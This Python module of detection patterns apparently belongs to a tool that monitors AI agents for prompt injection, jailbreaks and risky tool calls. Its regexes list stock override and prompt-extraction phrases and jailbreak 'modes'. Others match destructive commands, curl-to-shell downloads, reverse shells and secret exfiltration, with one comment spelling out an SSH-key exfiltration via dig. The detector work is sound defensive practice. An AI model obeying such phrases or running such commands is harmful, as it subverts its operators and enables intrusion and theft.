"""The words and patterns the built-in detectors look for.

Kept in one place so a reviewer can read (and a team can audit) exactly what each
signal keys on. Everything is matched case-insensitively on plain text.
"""

from __future__ import annotations

import re
import unicodedata
from functools import lru_cache

_I = re.IGNORECASE

# --- override phrasing (the provenance view's cues build on it: incident_lab.provenance.cues)
INJ_OVERRIDE = re.compile(
    r"(?:\b|_)(ignore|disregard|forget|override|bypass|abandon|discard)\b[^.\n]{0,40}?"
    r"\b(previous|prior|above|earlier|preceding|original|all|any|your|the|system)\b[^.\n]{0,30}?"
    r"\b(instructions?|directions?|rules?|guidelines?|prompts?|constraints?|polic(y|ies)|tasks?)\b"
    r"|\bnew (instructions?|task|objective|directive|priority)\s*[:\-]"
    r"|\b(you are now|from now on,? you|you must now|you will now|your (new|real|actual) (task|goal|job|role|instructions?))\b"
    r"|\b(system|admin|administrator|developer|security)\s*(override|message|instruction|notice|update)\s*[:\]]"
    r"|\[/?(system|inst|assistant)\]|<\|?(im_start|system|endoftext)\|?>|</?(system|instructions?)>",
    _I,
)

# --- adversarial instructions typed by the user (direct injection / jailbreak) -----
DIRECT_OVERRIDE = re.compile(
    INJ_OVERRIDE.pattern
    + r"|\b(developer|dan|god|jailbreak|unrestricted|unfiltered) mode\b|\bdo anything now\b"
    r"|\b(reveal|print|show|repeat|output|dump)\b[^.\n]{0,30}?\b(your|the)\b[^.\n]{0,20}?"
    r"\b(system prompt|instructions|initial prompt|hidden prompt|configuration)\b"
    r"|\bpretend (you|that you) (are|have) no (rules|restrictions|filters|guidelines)\b",
    _I,
)

# --- the assistant's stance -------------------------------------------------------
REFUSAL = re.compile(
    r"\b(i|we)(?: (?:still|really|just|simply|truly|unfortunately|honestly|definitely|afraid i))?"
    r"(?: (can(no|')t|cannot|won'?t|will not|am not able to|am unable to|must decline|"
    r"have to decline|am not allowed to|am not permitted to)"
    r"|'m (not able to|unable to|not allowed to|not permitted to))\b"
    r"|\bi'?m sorry,? but\b|\b(not (allowed|permitted)|against (our|my|the) (policy|policies|rules|guidelines))\b"
    r"|\b(doesn'?t|does not|don'?t|do not) (allow|permit) me\b"
    r"|\bunable to (help|assist|process|do that|comply)\b|\bthat'?s not something i can\b|\bi must refuse\b",
    _I,
)
AFFIRMATIVE = re.compile(
    r"^\s*(sure|okay|ok|fine|alright|all right|certainly|of course|understood|done|great)\b"
    r"|\b(here (is|are|'s)|i'?ve (processed|issued|sent|done|made|applied|approved|completed|gone ahead)|"
    r"i (have|will|'ll) (go ahead|make an exception|process|issue|approve|do it)|as an exception|"
    r"just this once|you win|step 1\b|happy to help with that)\b",
    _I,
)
PRESSURE = re.compile(
    r"\b(please|pls|i beg|begging|urgent|asap|right now|immediately|my (manager|boss|lawyer)|"
    r"i'?ll (sue|complain|cancel|report|leave)|just this once|exception|you (did|have done) it before|"
    r"other agents?|i insist|come on|last chance|i'?m (a|the) (developer|admin|administrator|owner|ceo)|"
    r"hypothetically|for a (story|novel|movie|game)|pretend|role-?play|seriously|why not|it'?s fine|"
    r"nobody will know|i promise|i already told you|again)\b",
    _I,
)

# --- errors that mean "that tool does not exist" ------------------------------------
UNKNOWN_TOOL_ERROR = re.compile(
    r"\b(unknown|unrecognized|unrecognised|undefined|unsupported|invalid|no such|nonexistent|non-existent)\s+"
    r"(tool|function|action|command name|method|plugin)\b"
    r"|\b(tool|function|action|plugin)\b[^\n]{0,60}?\b(not found|does not exist|doesn'?t exist|is not "
    r"(available|defined|registered|offered|supported)|not registered|not available)\b",
    _I,
)

# --- what a tool does, from its name -------------------------------------------------
TOOL_CATEGORIES: dict[str, tuple[str, ...]] = {
    "email": ("email", "mail", "smtp", "gmail", "outlook", "reply", "forward"),
    "message": ("slack", "sms", "message", "chat", "teams", "notify", "tweet", "dm", "whatsapp"),
    "payment": (
        "transfer",
        "payment",
        "pay",
        "refund",
        "wire",
        "charge",
        "payout",
        "withdraw",
        "purchase",
        "buy",
    ),
    "delete": ("delete", "remove", "drop", "destroy", "purge", "wipe", "erase"),
    "permission": ("grant", "permission", "role", "share", "invite", "acl", "access"),
    "exec": (
        "exec",
        "shell",
        "bash",
        "terminal",
        "command",
        "execute",
        "run",
        "python",
        "sql",
        "eval",
    ),
    "http_write": (
        "post",
        "webhook",
        "upload",
        "submit",
        "publish",
        "fill",
        "form",
        "signup",
        "subscribe",
    ),
    "file_write": ("write", "save", "put", "commit", "push"),
}
#: Verbs in a user's request that authorise each category.
ACTION_VERBS: dict[str, tuple[str, ...]] = {
    "email": ("email", "e-mail", "mail", "send", "reply", "forward", "write to", "respond", "cc"),
    "message": (
        "message",
        "slack",
        "text",
        "post",
        "notify",
        "tell",
        "ping",
        "dm",
        "send",
        "tweet",
    ),
    "payment": (
        "pay",
        "transfer",
        "refund",
        "wire",
        "send money",
        "charge",
        "reimburse",
        "buy",
        "purchase",
        "money back",
    ),
    "delete": (
        "delete",
        "remove",
        "clean",
        "clear",
        "drop",
        "purge",
        "tidy",
        "get rid",
        "wipe",
        "archive",
    ),
    "permission": ("share", "grant", "give access", "invite", "add", "permission", "access"),
    "exec": (
        "run",
        "execute",
        "test",
        "build",
        "install",
        "fix",
        "deploy",
        "compile",
        "debug",
        "lint",
        "check",
        "query",
        "script",
    ),
    "http_write": (
        "post",
        "upload",
        "submit",
        "sign up",
        "register",
        "subscribe",
        "publish",
        "fill",
        "book",
        "order",
        "apply",
    ),
    "file_write": (
        "save",
        "write",
        "create",
        "store",
        "export",
        "commit",
        "push",
        "update",
        "edit",
        "fix",
        "change",
    ),
}
#: First words of a tool name that only reads (``get_``, ``search_``...); provenance adds its own.
READ_VERBS = (
    "get",
    "read",
    "search",
    "list",
    "lookup",
    "look",
    "fetch",
    "query",
    "find",
    "view",
    "browse",
    "open",
    "retrieve",
    "check",
    "show",
    "navigate",
    "visit",
    "load",
    "describe",
)

#: The verbs of :data:`ACTION_VERBS` (and of provenance's ``booking``, ``modify`` kinds) in
#: German, French, Spanish, Italian and Portuguese (a few Catalan and Galician forms the
#: others do not spell), as a user writes them: each entry is a stem
#: and its conjugation class (:data:`_ENDINGS`: ``"envi|ar"`` is envía, envíe, enviar,
#: envíalo, envíale, ...) or a whole form (``"=transfiere"``). Written accent-folded and lower
#: case (:func:`fold`); German ``ä ö ü`` also match ``ae oe ue`` (users type without accents).
#: A form that is as often a noun or adjective (es "reserva", de "teile") is marked ``?``:
#: it asks only at the start of a clause ("Reserva una mesa", not "mi reserva").
_REQUEST_VERBS: dict[str, dict[str, str]] = {
    "email": {
        "ca": "=envieu =enviar =envia =respon =responeu",
        "de": "schick|de send|de versend|de- verschick|de mail|de- ?antwort|de- beantwort|de- "
        "schreib|de =weiterleiten",
        "fr": "=envoie =envoies =envoyez =envoyer =envoyons =transmets =transmettez "
        "=transmettre =reponds =repondez =repondre =ecris =ecrivez =ecrire transfer|er",
        "es": "envi|ar mand|ar reenvi|ar respond|er contest|ar escrib|ir",
        "it": "invi|are mand|are inoltr|are rispond|ere scriv|ere",
        "pt": "envi|ar mand|ar reenvi|ar encaminh|ar respond|er escrev|er",
    },
    "message": {
        "de": "schick|de send|de schreib|de benachrichtig|de- informier|de-",
        "fr": "=envoie =envoies =envoyez =envoyer =ecris =ecrivez =ecrire =reponds =repondez "
        "=repondre =previens =prevenez =prevenir inform|er",
        "es": "envi|ar mand|ar escrib|ir respond|er notific|ar =notifique avis|ar =informa "
        "=informale =informar =informarle",
        "it": "invi|are mand|are scriv|ere rispond|ere notific|are avvis|are inform|are",
        "pt": "envi|ar mand|ar escrev|er respond|er notific|ar =notifique avis|ar inform|ar",
    },
    "payment": {
        "ca": "=pagueu =transfereix =transferiu =reemborsa",
        "gl": "=transfire =reembolsa",
        "de": "überweis|de- bezahl|de =zahle erstatt|de- kauf|de-",
        "fr": "=paie =paye =payez =payer =vire =virez =virer transfer|er =transfere "
        "rembours|er =achete =achetez =acheter =reglez =regler",
        "es": "=pagar =pague =paguen =pagues =pagale =pagalo =pagarle ?=paga transfer|ir =transfiere =transfiera "
        "=transfieras =transfierele reembols|ar =devuelve =devuelva =devuelveme =devolver "
        "compr|ar ?=compra",
        "it": "pag|are =paghi bonific|are trasfer|ire =trasferisci rimbors|are acquist|are "
        "compr|are ?=compra",
        "pt": "=pagar =pague =paguem =pagues ?=paga transfer|ir =transfira =transfere reembols|ar "
        "=devolva =devolver compr|ar ?=compra",
    },
    "delete": {
        "ca": "esborr|ar =elimineu",
        "de": "lösch|de entfern|de bereinig|de- räum|de- =aufraumen",
        "fr": "supprim|er effac|er =nettoie =nettoyez =nettoyer ?=vide =videz =vider retir|er",
        "es": "borr|ar elimin|ar suprim|ir limpi|ar vaci|ar =quita =quitalo =quitala =quitar",
        "it": "cancell|are elimin|are =rimuovi =rimuovere pul|ire =pulisci svuot|are",
        "pt": "apag|ar =apague exclu|ir =exclua =exclui remov|er =remova limp|ar esvazi|ar",
    },
    "permission": {
        "ca": "=comparteix =compartiu",
        "de": "?teil|de- gewähr|de- =einladen =freigeben",
        "fr": "?partag|er invit|er accord|er",
        "es": "compart|ir conced|er invit|ar",
        "it": "condivid|ere =concedi =concedere invit|are",
        "pt": "compartilh|ar partilh|ar conced|er convid|ar",
    },
    "exec": {
        "de": "start|de- installier|de- kompilier|de- test|de- prüf|de bau|de- =ausfuhren "
        "beheb|de- korrigier|de-",
        "fr": "execut|er lanc|er install|er compil|er =deploie =deployez =deployer test|er "
        "verifi|er corrig|er",
        "es": "ejecut|ar lanz|ar =lance instal|ar compil|ar =despliega =desplegar ?=prueba "
        "=pruebalo =probar verific|ar =verifique =comprueba =comprobar arregl|ar corrig|ir",
        "it": "=esegui =eseguire lanci|are install|are compil|are test|are verific|are "
        "=correggi =correggere",
        "pt": "execut|ar ?rod|ar instal|ar compil|ar test|ar verific|ar =corrija =corrige "
        "=corrigir",
    },
    "http_write": {
        "de": "=hochladen veröffentlich|de- registrier|de- abonnier|de- bestell|de "
        "=ausfullen =absenden =einreichen buch|de- reservier|de-",
        "fr": "televers|er publi|er =inscris =inscrivez =inscrire =soumets =soumettez "
        "=soumettre =remplis =remplissez =remplir command|er reserv|er",
        "es": "sub|ir public|ar =registra =registrame =registrate suscrib|ir rellen|ar =pide =pidas =pedir "
        "reserv|ar ?=reserva",
        "it": "caric|are pubblic|are iscriv|ere compil|are ordin|are prenot|are",
        "pt": "carreg|ar public|ar inscrev|er submet|er preench|er encomend|ar =peca =pedir "
        "reserv|ar ?=reserva",
    },
    "file_write": {
        "ca": "=desa =deseu",
        "gl": "=garda =gardar",
        "de": "speicher|de- =speichern schreib|de erstell|de- aktualisier|de- änder|de- "
        "bearbeit|de- exportier|de-",
        "fr": "enregistr|er sauvegard|er =ecris =ecrivez =ecrire =cree =creez =creer "
        "modifi|er chang|er export|er",
        "es": "?=guarda =guarde =guardar =guardalo =guardala =crea =crear =crealo =creala =crearlo "
        "escrib|ir actualiz|ar =actualice edit|ar modific|ar "
        "=modifique cambi|ar export|ar",
        "it": "salv|are scriv|ere cre|are aggiorn|are modific|are cambi|are esport|are",
        "pt": "salv|ar =grava =gravar =guarde =guardar escrev|er cri|ar atualiz|ar =atualize edit|ar modific|ar "
        "alter|ar mud|ar export|ar",
    },
    "booking": {
        "ca": "=reserveu",
        "de": "buch|de- reservier|de- =vereinbare =vereinbaren",
        "fr": "reserv|er planifi|er",
        "es": "reserv|ar ?=reserva =agende =agendes =agenden =agendar =programar =programe",
        "it": "prenot|are fiss|are",
        "pt": "reserv|ar ?=reserva =agende =agendar =marque =marcar",
    },
    "modify": {
        "de": "änder|de- aktualisier|de- bearbeit|de- verschieb|de- =hinzufugen storn|de-",
        "fr": "modifi|er chang|er ajout|er deplac|er annul|er",
        "es": "cambi|ar actualiz|ar =actualice edit|ar modific|ar =modifique =mueve "
        "añad|ir cancel|ar",
        "it": "modific|are cambi|are aggiorn|are =aggiungi =aggiungere spost|are annull|are",
        "pt": "alter|ar mud|ar atualiz|ar =atualize adicion|ar =mova cancel|ar",
    },
}
#: Endings of each conjugation class: imperative, polite, infinitive, subjunctive (the
#: negated imperative) and pronoun-joined forms. A form that is no word harms nothing.
_ENDINGS: dict[str, tuple[str, ...]] = {
    "ar": ("a", "as", "ad", "ar", "e", "es", "en", "emos", "ame", "amelo", "amela", "alo", "ala",
           "alos", "alas", "ale", "ales", "aselo", "arle", "arlo", "arla", "arles", "arlos",
           "arme", "arnos", "ando", "elo", "ele", "eles", "em", "ai"),
    # Spanish and Portuguese -er, French -er (supprime, supprimez, supprimer)
    "er": ("e", "es", "er", "a", "as", "an", "am", "elo", "ele", "eles", "eme", "erle",
           "erlo", "erla", "iendo", "endo", "ei", "ez", "ons", "ale", "alo"),
    "ir": ("e", "es", "id", "ir", "a", "as", "an", "am", "elo", "ele", "eles", "eme", "irle",
           "irlo", "iendo", "indo", "i", "ale", "alo"),
    "are": ("a", "i", "ate", "are", "alo", "ala", "ali", "ale", "agli", "ami", "amelo",
            "aglielo", "arlo", "arla", "arli", "arle", "argli", "armi", "ando", "iamo"),
    "ere": ("i", "a", "ete", "ere", "ilo", "igli", "imi", "erlo", "ergli", "ermi", "endo"),
    "ire": ("i", "a", "ite", "ire", "ilo", "igli", "irlo", "irgli", "endo", "isci"),
    "de": ("", "e", "en"),
    "de-": ("e", "en", "n"),
}  # fmt: skip
#: Forms that are English words (read by the English rules, which know when they are nouns)
#: or another language's common noun ("andern" others, "agenda"): never a request here.
_NOT_REQUESTS = frozenset((
    "change", "changes", "changer", "compile", "compiles", "compiler", "tester", "testes",
    "exporter", "commander", "invite", "invites", "modifies", "verifies", "lance", "lances",
    "lancer", "execute", "executes", "remove", "removes", "concede", "concedes", "informer",
    "responder", "retire", "retires", "grave", "rode", "page", "pages", "quite", "probe",
    "agenda", "installer", "send", "andern", "publican", "informe"
))  # fmt: skip
#: Words before a verb that forbid it ("no envíes", "non inviare", "não envie", "n'envoie
#: pas", "nicht überweisen", "sin enviar"); German also after it ("schick das nicht").
_NEGATIONS = frozenset((
    "no", "nunca", "jamas", "sin", "non", "mai", "senza", "nao", "sem", "ne", "n", "pas",
    "sans", "nicht", "nie", "niemals", "kein", "keine", "keinen", "ohne"
))  # fmt: skip
_NEGATIONS_AFTER = frozenset((
    "nicht", "nie", "niemals", "kein", "keine", "keinen"
))  # fmt: skip
#: Words that may stand between a negation and its verb: pronouns, "yet", "please".
_BETWEEN = frozenset((
    "lo", "la", "los", "las", "le", "les", "se", "me", "te", "nos", "os", "li", "gli", "glielo",
    "mi", "ti", "ci", "vi", "ne", "si", "o", "a", "lhe", "lhes", "l", "lui", "leur", "m", "t",
    "y", "en", "pas", "todavia", "aun", "ancora", "ainda", "encore", "noch", "bitte", "das",
    "es", "ihn", "sie", "ihm", "ihr"
))  # fmt: skip
#: Words of a password (for a credential change: "cambia mi contraseña").
_SECRETS = frozenset((
    "passwort", "kennwort", "contrasena", "clave", "password", "senha", "pin", "passe"
))  # fmt: skip
#: Words after which a clause still starts a request: "por favor reserva ...".
_POLITE = frozenset((
    "bitte", "favor", "favore", "plait", "please"
))  # fmt: skip


def fold(text: str) -> str:
    """``text`` case-folded with its accents removed ("Überweise" -> "uberweise", ß -> ss)."""
    if text.isascii():
        return text.lower()
    return _COMBINING.sub("", unicodedata.normalize("NFKD", text.casefold()))


#: The combining marks NFKD splits off letters (accents, umlaut dots, cedillas, tildes).
_COMBINING = re.compile(r"[\u0300-\u036f\u1ab0-\u1aff\u1dc0-\u1dff\u20d0-\u20ff\ufe20-\ufe2f]")


def _forms() -> tuple[dict[str, frozenset[str]], frozenset[str]]:
    """Every form of :data:`_REQUEST_VERBS` with the kinds it asks for, and the forms that ask
    only at the start of a clause."""
    kinds: dict[str, set[str]] = {}
    ambiguous: set[str] = set()
    for kind, languages in _REQUEST_VERBS.items():
        for entries in languages.values():
            for entry in entries.split():
                marked = entry.startswith("?")
                entry = entry.lstrip("?")
                if entry.startswith("="):
                    words = [entry[1:]]
                else:
                    stem, cls = entry.split("|")
                    words = [stem + e for e in _ENDINGS[cls]]
                for word in words:
                    for spelled in {fold(word), fold(_UMLAUT.sub(r"\1e", word))} - _NOT_REQUESTS:
                        kinds.setdefault(spelled, set()).add(kind)
                        if marked:
                            ambiguous.add(spelled)
    return {w: frozenset(k) for w, k in kinds.items()}, frozenset(ambiguous)


_UMLAUT = re.compile(r"([äöü])")
#: Marks that end a clause become a word of their own (``_END``); marks inside or between
#: words a space ("n'envoie" -> n envoie, "envie-o" -> envie o). A full stop ends a clause
#: only at the end of a word (not the dot of a domain: :func:`_clauses`).
_END = "\x00"
_MARKS = str.maketrans(
    {c: f" {_END} " for c in '!?;,:\n\u00bf\u00a1()[]"\u00ab\u00bb\u201c\u201d\u2026'}
    | {c: " " for c in "'`\u00b4\u2019\u2018-_/\\@#$%&*+=<>|~^{}\u2013\u2014\t\r"}
)


def _clauses(text: str) -> list[list[str]]:
    """The words of ``text`` (:func:`fold`), clause by clause; [] when none is a request verb
    (one set operation over the words: a long text without one costs no word-by-word scan)."""
    raw = fold(text).translate(_MARKS).split()
    words = [w.strip(".") for w in raw]
    if _form_table()[0].keys().isdisjoint(words):
        return []
    clauses: list[list[str]] = [[]]
    for token, word in zip(raw, words, strict=True):
        if word and word != _END:
            clauses[-1].append(word)
        if word == _END or token.endswith("."):
            clauses.append([])
    return clauses


@lru_cache(maxsize=1)
def _form_table() -> tuple[dict[str, frozenset[str]], frozenset[str]]:
    return _forms()


@lru_cache(maxsize=4096)
def _request_words(text: str) -> tuple[tuple[str, frozenset[str], bool, str | None], ...]:
    """The verb forms of :data:`_REQUEST_VERBS` in ``text``: (form, kinds, whether it is the
    start of a request, the words forbidding it or None). One pass over the folded text."""
    table, ambiguous = _form_table()
    found = []
    for words in _clauses(text):
        for k, word in enumerate(words):
            kinds = table.get(word)
            if kinds is None:
                continue
            starts = k == 0 or words[k - 1] in _POLITE
            if word in ambiguous and not starts:
                continue
            found.append((word, kinds, starts, _negation(words, k)))
    return tuple(found)


def _negation(words: list[str], k: int) -> str | None:
    """The words forbidding the verb ``words[k]``: a negation before it with only pronouns
    and "yet" between ("no se lo envíes"), or (German, where objects stand between) up to five
    words before or four after it in its clause ("nicht an Anna senden", "schick den Bericht
    noch nicht")."""
    between = True
    for j in range(k - 1, max(-1, k - 6), -1):
        if (between and words[j] in _NEGATIONS) or words[j] in _NEGATIONS_AFTER:
            return " ".join(words[j : k + 1])
        between = between and words[j] in _BETWEEN
    for j in range(k + 1, min(len(words), k + 5)):
        if words[j] in _NEGATIONS_AFTER:
            return " ".join(words[k : j + 1])
    return None


def request_kinds(text: str) -> frozenset[str]:
    """The kinds of action ``text`` asks for with a verb of :data:`_REQUEST_VERBS` (German,
    French, Spanish, Italian, Portuguese) not forbidden in the same breath; ``credential``
    when it asks to change something and names a password ("cambia mi contraseña")."""
    if len(text) > _MEMO_CHARS:
        return _request_kinds.__wrapped__(text)
    return _request_kinds(text)


_MEMO_CHARS = 4096


@lru_cache(maxsize=4096)
def _request_kinds(text: str) -> frozenset[str]:
    asked: set[str] = set()
    for _, kinds, _, negated in _request_words(text):
        if negated is None:
            asked |= kinds
    if "modify" in asked and _SECRETS.intersection(fold(text).translate(_MARKS).split()):
        asked.add("credential")
    return frozenset(asked)


def _forbidden_elsewhere(category: str, text: str) -> str | None:
    """The words forbidding ``category`` in German, French, Spanish, Italian or Portuguese."""
    words = _request_words.__wrapped__(text) if len(text) > _MEMO_CHARS else _request_words(text)
    for _, kinds, _, negated in words:
        if negated is not None and category in kinds:
            return negated
    return None


HIGH_IMPACT_COMMAND = re.compile(
    r"\b(git\s+push|push\s+--force|deploy|publish|kubectl\s+(delete|apply|scale)|terraform\s+(apply|destroy)|"
    r"rm\s+-[a-z]*r[a-z]*|git\s+clean\s+-[a-z]*f[a-z]*|git\s+reset\s+--hard|drop\s+(table|database)|truncate\s+table|chmod\s+-r|curl\b[^|\n]{0,300}\|\s{0,4}(ba)?sh|"
    r"shutdown|mkfs|npm\s+publish|pip\s+install\s+https?://)\b",
    _I,
)
DESTRUCTIVE = re.compile(
    r"\brm\s+-[a-z]*r[a-z]*\b|\bdrop\s+(table|database|schema)\b|\btruncate\s+(table\s+)?\w+|"
    r"\bdelete\s+from\s+\w+\s*(;|$)|\bmkfs\b|\bdd\s+if=|\bgit\s+push\s+(-f|--force)\b|"
    r"\bgit\s+clean\s+-[a-z]*f|\bgit\s+reset\s+--hard\b|\bkubectl\s+delete\b|\bterraform\s+destroy\b|\bformat\s+c:|\bwipe\b|\bpurge\b",
    _I,
)

#: Remote code or a remote shell: a download piped to a shell, the environment piped to the
#: network, a reverse shell (``nc -e``, ``bash -i >& /dev/tcp/...``, ``socat ... exec:``).
#: Bounded gaps: linear on a crafted 100 KB command (issue 10).
REMOTE_EXEC = re.compile(
    r"\b(curl|wget)\b[^|;&\n]{0,300}\|\s{0,4}(sudo\s{1,4})?(ba|z|da|k)?sh\b"
    r"|\benv\b[^|\n]{0,300}\|\s{0,4}(curl|nc|ncat|wget)\b"
    r"|\b(nc|ncat|netcat)\b[^|;&\n]{0,100}\s-[ec]\s"
    r"|/dev/(tcp|udp)/|\b(ba|z)?sh\s{1,4}-i\b|\bsocat\b[^\n]{0,200}\bexec:",
    _I,
)

#: A shell command that sends data outside: a secret spliced into a DNS name or URL
#: (``dig $(cat ~/.ssh/id_rsa | base64).x.test``), a file piped or posted to the network,
#: a push to a git remote other than ``origin``/``upstream``. Bounded gaps (linear).
OUTBOUND_COMMAND = re.compile(
    r"\b(dig|nslookup|host|ping|curl|wget|nc|ncat)\b[^\n;&|]{0,200}(\$\(|`)"
    r"|\|\s{0,4}(curl|nc|ncat|netcat|wget)\b"
    r"|\b(curl|wget)\b[^\n|;&]{0,300}\s(-d|--data[\w-]{0,8}|-F|--form|-T|--upload-file|"
    r"--post-(data|file))\b"
    r"|\bgit\s{1,4}push\s{1,4}(-{1,2}[\w-]{1,20}\s{1,4}){0,4}(?!(origin|upstream)\b|-)[\w.:/@~]",
    _I,
)

_STOPWORD_TEXT = """
a about above after again all also am an and any are as at be because been before being
below between both but by can could did do does doing done down during each few for from
further had has have having he her here hers him his how i if in into is it its itself
just let me more most my no nor not now of off on once only or other our ours out over
own please same she should so some such than that the their them then there these they
this those through to too under until up very was we were what when where which while
who whom why will with would you your yours hi hello thanks thank ok okay sure can't
cannot i'm it's i'll i've you're don't get got need want like make made one two also use
using used could would may might must shall good morning evening afternoon hey cheers
appreciate appreciated quick question fine well really just
"""
STOPWORDS = frozenset(_STOPWORD_TEXT.split())
_WORD = re.compile(r"[a-z0-9][a-z0-9_'-]+")


@lru_cache(maxsize=1 << 16)  # words recur across sessions; each is short
def _stem(word: str) -> str:
    for suffix in ("ing", "ed", "es", "s"):
        if len(word) > len(suffix) + 3 and word.endswith(suffix):
            return word[: -len(suffix)]
    return word


def forbidden(category: str, text: str) -> str | None:
    """Return the user's words forbidding ``category`` ("don't send it yet", "no lo envíes",
    "schick das nicht"), or None."""
    verbs = "|".join(re.escape(v) for v in ACTION_VERBS.get(category, ()))
    match = (
        re.search(
            rf"\b(don'?t|do not|never|no need to|without|not to|shouldn'?t|must not)\s+(\w+\s+){{0,2}}?({verbs})\w*",
            text,
            _I,
        )
        if verbs
        else None
    )
    return match.group(0) if match else _forbidden_elsewhere(category, text)


def content_words(text: str) -> set[str]:
    """Return the stemmed content words of ``text`` (lower-case, no stopwords, 3+ letters)."""
    words = set()
    for w in set(_WORD.findall(text.lower().replace("_", " "))):  # each distinct word once
        w = w.strip("'-")
        if len(w) >= 3 and w not in STOPWORDS:
            words.add(_stem(w))
    return words


#: The arguments a handoff takes, when any: why the conversation is passed on, and what to.
_HANDOFF_KEYS = frozenset(
    [
        "reason",
        "message",
        "input",
        "context",
        "summary",
        "request",
        "note",
        "notes",
        "task",
        "instructions",
        "question",
        "topic",
    ]
)


def is_handoff(name: str, arguments: dict[str, object] | None) -> bool:
    """True for an agent handoff: ``transfer_to_<agent>`` / ``transfer_back_to_<agent>``.

    The OpenAI Agents SDK names its handoff tools so, as LangGraph's swarm and supervisor
    do; handing the conversation to another agent moves no money. Such a handoff takes
    no arguments, or only a reason or message for the next agent: any other argument
    (an amount, an account, ``usd``, ``dest``, ``card_number`` ...) leaves the call a payment.
    """
    tokens = [t for t in re.split(r"[^a-z0-9]+", name.lower()) if t]
    if tokens[:2] != ["transfer", "to"] and tokens[:3] != ["transfer", "back", "to"]:
        return False
    return all(str(key).lower().strip("_") in _HANDOFF_KEYS for key in arguments or {})


def tool_category(
    name: str, arguments: dict[str, object] | None = None, *, handoffs: bool = True
) -> str:
    """Classify a tool call by what it does: a sink category, ``"read"`` or ``"other"``.

    An HTTP tool called with ``method: GET`` reads; with any other method it writes.
    An agent handoff (:func:`is_handoff`) is ``"other"``; ``handoffs=False`` leaves that
    test to a caller that sees more of the arguments than it passes here.
    """
    tokens = [t for t in re.split(r"[^a-z0-9]+", name.lower()) if t]
    args = arguments or {}
    method = str(args.get("method", "")).upper()
    if any(t in ("http", "request", "fetch", "curl", "api") for t in tokens) and method:
        return "read" if method in ("GET", "HEAD") else "http_write"
    if tokens and tokens[0] in READ_VERBS:
        return "read"
    if handoffs and is_handoff(name, args):
        return "other"
    for token in tokens:  # the verb usually comes first: delete_email deletes, send_email sends
        for category, keys in TOOL_CATEGORIES.items():
            if token in keys:
                return category
    return "other"
